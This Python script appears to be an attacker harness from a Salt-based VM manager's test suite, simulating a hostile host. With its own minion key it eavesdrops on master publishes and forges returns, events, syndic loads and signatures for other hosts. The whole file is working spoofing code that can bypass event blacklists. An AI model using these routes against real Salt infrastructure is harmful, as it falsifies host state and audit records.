"""What runs on a hostile host: with that host's own accepted key it reads every publish, and forges answers and events.

``python3 attacker.py CONFIG_DIR`` in the host's Salt environment. Orders come on standard input, what it heard and what
it tried go to standard output, each as one line of JSON; the end of its input ends it. It needs nothing of the
tests, and of Racksalt only what every host has.
"""

import asyncio
import json
import os
import queue
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import salt.channel.client
import salt.config
import salt.minion

sys.path.insert(0, "/var/cache/salt/minion/extmods/utils")

from racksalt import host_answers  # found where Salt's sync has put it
from racksalt.adapters.minion_keys import OwnKey

#: So many lies are on their way at the same time.
_THREADS = 4
_FORGED = "f0f0f0f0-f0f0-4f0f-8f0f-f0f0f0f0f0f0"
_say_lock = threading.Lock()


@dataclass(frozen=True)
class Lie:
    """An answer to a job under the name of a host that did not give it."""

    job: str
    fun: str
    victim: str
    value: Any

    @property
    def event(self) -> dict[str, Any]:
        """As the master would fire it for a true return."""
        return {"id": self.victim, "jid": self.job, "fun": self.fun, "return": self.value, "success": True}


class Rogue:
    """One connection to the master, authenticated with the host's own key at its first use."""

    def __init__(self, config_dir: str) -> None:
        self.opts = salt.config.minion_config(os.path.join(config_dir, "minion"))  # noqa: PTH118
        self.opts.update(salt.minion.resolve_dns(self.opts))
        self.id = self.opts["id"]
        self.key = OwnKey(self.opts["pki_dir"])
        self.last: tuple[str, str] = ("1", "test.ping")
        self._channel = salt.channel.client.ReqChannel.factory(self.opts)

    def send(self, **load: Any) -> Any:
        return self._channel.send({"id": self.id, **load}, timeout=20)

    def give_back(self, lie: Lie, value: Any, **more: Any) -> Any:
        return self.send(cmd="_return", jid=lie.job, fun=lie.fun, success=True, retcode=0, **{"return": value}, **more)

    def signed(self, lie: Lie, *, host: str, job: str | None = None) -> dict[str, Any]:
        """The lie with a signature that is right, by the key that this host has."""
        call = host_answers.Call(job or lie.job, lie.fun)
        return host_answers.signed(lie.value, call, host=host, sign=self.key.sign)

    def syndic(self, lie: Lie, value: Any, **more: Any) -> Any:
        answer = {lie.victim: {"return": value, "success": True, "retcode": 0}}
        return self.send(
            cmd="_syndic_return", load=[{"id": self.id, "jid": lie.job, "fun": lie.fun, "return": answer, **more}]
        )


def _by_event(rogue: Rogue, lie: Lie) -> Any:
    """Any tag that the master's blacklist lets through; the id is free."""
    return rogue.send(cmd="_minion_event", events=[{"tag": f"salt/job/{lie.job}/ret/{lie.victim}", "data": lie.event}])


def _by_pretag(rogue: Rogue, lie: Lie) -> Any:
    """Fired before the blacklist is asked."""
    event = {"tag": f"{lie.job}/ret/{lie.victim}", "data": lie.event}
    return rogue.send(cmd="_minion_event", pretag="salt/job", events=[event])


def _by_plain_event(rogue: Rogue, lie: Lie) -> Any:
    """Past the blacklist; the event is the whole load."""
    return rogue.send(cmd="_minion_event", tag=f"salt/job/{lie.job}/ret/{lie.victim}", data={}, **_no_id(lie.event))


def _by_syndic_load(rogue: Rogue, lie: Lie) -> Any:
    """Overwrites what the job cache says of the job itself: who called what."""
    load = {"jid": lie.job, "fun": "rack_vm.list", "user": "bob", "tgt": lie.victim, "tgt_type": "list", "arg": []}
    return rogue.syndic(lie, lie.value, load=load)


def _by_guess(rogue: Rogue, lie: Lie) -> Any:
    stolen = {"host": lie.victim, "job": lie.job, "answer": json.dumps(lie.value), "signature": "AAAA"}
    return rogue.give_back(lie, {"signed": stolen}, resource_id=lie.victim)


def _by_replay(rogue: Rogue, lie: Lie) -> Any:
    """What was right for the job before."""
    return rogue.give_back(lie, rogue.signed(lie, host=rogue.id, job=rogue.last[0]), resource_id=lie.victim)


#: Each makes the master fire, or keep, a return that the victim never sent.
WAYS: dict[str, Callable[[Rogue, Lie], Any]] = {
    "event": _by_event,
    "pretag": _by_pretag,
    "plain event": _by_plain_event,
    "syndic": lambda rogue, lie: rogue.syndic(lie, lie.value),
    "syndic load": _by_syndic_load,
    "resource": lambda rogue, lie: rogue.give_back(lie, lie.value, resource_id=lie.victim),
    "resource, own signature": lambda rogue, lie: rogue.give_back(
        lie, rogue.signed(lie, host=lie.victim), resource_id=lie.victim
    ),
    "resource, signed as itself": lambda rogue, lie: rogue.give_back(
        lie, rogue.signed(lie, host=rogue.id), resource_id=lie.victim
    ),
    "resource, guessed signature": _by_guess,
    "resource, replayed": _by_replay,
    "stranger": lambda rogue, lie: rogue.give_back(lie, lie.value, resource_id="nobody"),
    "own": lambda rogue, lie: rogue.give_back(lie, lie.value),
}


def _no_id(event: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in event.items() if key != "id"}


def lies(fun: str, victim: str) -> list[Any]:
    """What a host may be made to seem to answer to each function: a success, and a refusal."""
    forged = {"uuid": _FORGED, "name": "acme.ghost", "state": "running", "vcpus": 4, "memory_mib": 2048, "disk_gib": 9}
    room = {"vcpus": 64, "memory_mib": 65536, "disk_gib": 999}
    report = {"host": victim, "total": room, "domains": [forged], "hypervisor": "forged"}
    return {
        "rack_host.report": [report, {**report, "domains": []}, _error("libvirt_down", 503)],
        "rack_vm.create": [{"changed": True, "vm": "acme/ghost", "steps": []}, _error("no_room", 422)],
        "saltutil.find_job": [{}, {"jid": "1", "fun": "rack_vm.create"}],
    }.get(fun, [{"changed": True, "state": "stopped"}, _error("vm_not_found", 404)])


def _error(code: str, status: int) -> dict[str, Any]:
    return {"error": {"code": code, "status": status, "detail": "forged"}}


def forged_runner_ways(rogue: Rogue, job: str, fun: str) -> dict[str, Callable[[], Any]]:
    """The answer of a runner on the master itself, for who has guessed its job's name."""
    value = {"vms": [], "changed": True, "vm": {"name": "ghost", "uuid": _FORGED}}
    told = {"fun": f"runner.{fun}", "jid": job, "return": value, "success": True, "user": "alice"}
    lie = Lie(job, f"runner.{fun}", "master", value)
    load = {"jid": job, "fun": f"runner.{fun}", "user": "bob", "tgt": "master", "tgt_type": "list", "arg": []}
    return {
        "runner, pretag": lambda: rogue.send(
            cmd="_minion_event", pretag="salt/run", events=[{"tag": f"{job}/ret", "data": told}]
        ),
        "runner, event": lambda: rogue.send(cmd="_minion_event", events=[{"tag": f"salt/run/{job}/ret", "data": told}]),
        "runner, plain event": lambda: rogue.send(cmd="_minion_event", tag=f"salt/run/{job}/ret", data={}, **told),
        "runner, job cache": lambda: rogue.give_back(lie, {**told, "_stamp": ""}, resource_id="master"),
        "runner, syndic load": lambda: rogue.syndic(lie, {**told, "_stamp": ""}, load=load),
    }


def event_ways(rogue: Rogue, tag: str, sender: str) -> dict[str, Callable[[], Any]]:
    """Any event of Racksalt's own, under another one's name."""
    base, _, rest = tag.partition("/")
    data = {"uuid": _FORGED, "state": "stopped"}
    free, pre = {**data, "id": f"{sender}-event"}, {**data, "id": f"{sender}-pretag"}
    return {
        "free event": lambda: rogue.send(cmd="_minion_event", events=[{"tag": tag, "data": free}]),
        "free pretag": lambda: rogue.send(cmd="_minion_event", pretag=base, events=[{"tag": rest, "data": pre}]),
        "free plain event": lambda: rogue.send(cmd="_minion_event", tag=tag, data=data),
    }


class Attack:
    """Everything together: one thread listens, some forge, one takes orders."""

    def __init__(self, config_dir: str) -> None:
        self.config_dir = config_dir
        self.ways: list[str] = []
        self.victims: list[str] = []
        self.todo: queue.Queue[Callable[[Rogue], None]] = queue.Queue()
        self.ready = threading.Barrier(_THREADS + 1)
        for _ in range(_THREADS):
            threading.Thread(target=self._work, daemon=True).start()

    def _work(self) -> None:
        rogue = Rogue(self.config_dir)
        rogue.send(cmd="_minion_event", tag="harmless", data={})
        self.ready.wait(60)
        while True:
            self.todo.get()(rogue)

    def heard(self, load: dict[str, Any]) -> None:
        """One publish, decrypted with the key that every accepted minion gets; ``tgt`` is only looked at by minions."""
        _say(heard=load)
        if self.ways and load["fun"].startswith(("rack_", "saltutil.find_job")):
            for number, way in enumerate(self.ways):
                for victim in self.victims:
                    values = lies(load["fun"], victim)
                    lie = Lie(str(load["jid"]), load["fun"], victim, values[number % len(values)])
                    self.todo.put(lambda rogue, way=way, lie=lie: self._lie(rogue, way, lie))

    def _lie(self, rogue: Rogue, way: str, lie: Lie) -> None:
        _tell(way, lambda: WAYS[way](rogue, lie), job=lie.job, fun=lie.fun, victim=lie.victim)
        rogue.last = (lie.job, lie.fun)

    def ordered(self, order: dict[str, Any]) -> None:
        """``ways`` and ``victims`` for each publish from now on; or one ``runner`` job, or one ``event``."""
        self.victims = order.get("victims", self.victims)
        self.ways = list(WAYS) if order.get("ways") == "all" else order.get("ways", self.ways)
        if "runner" in order:
            self.todo.put(lambda rogue: _try_all(forged_runner_ways(rogue, order["runner"], order["fun"]), **order))
        if "event" in order:
            self.todo.put(lambda rogue: _try_all(event_ways(rogue, order["event"], order["sender"]), **order))
        _say(obeyed=order)

    def take_orders(self) -> None:
        for line in sys.stdin:
            self.ordered(json.loads(line))
        os._exit(0)

    async def listen(self) -> None:
        opts = Rogue(self.config_dir).opts
        channel = salt.channel.client.AsyncPubChannel.factory(opts, io_loop=asyncio.get_running_loop())
        await channel.connect()

        def came(payload: Any) -> None:
            load = payload.get("load") if isinstance(payload, dict) else None
            if load:
                self.heard(load)

        waiting = channel.on_recv(came)
        await asyncio.to_thread(self.ready.wait, 60)
        _say(ready=True)
        threading.Thread(target=self.take_orders, daemon=True).start()
        if asyncio.iscoroutine(waiting):
            await waiting
        await asyncio.Event().wait()


def _try_all(ways: dict[str, Callable[[], Any]], **about: Any) -> None:
    for name, way in ways.items():
        _tell(name, way, **about)


def _tell(name: str, way: Callable[[], Any], **about: Any) -> None:
    began = time.time()
    try:
        went = repr(way())
    except Exception as error:  # whatever the master says, the next lie is tried
        went = f"failed: {error!r}"
    _say(tried=name, at=began, went=went[:200], **about)


def _say(**what: Any) -> None:
    with _say_lock:
        print(json.dumps(what, default=repr), flush=True)


if __name__ == "__main__":
    asyncio.run(Attack(sys.argv[1]).listen())
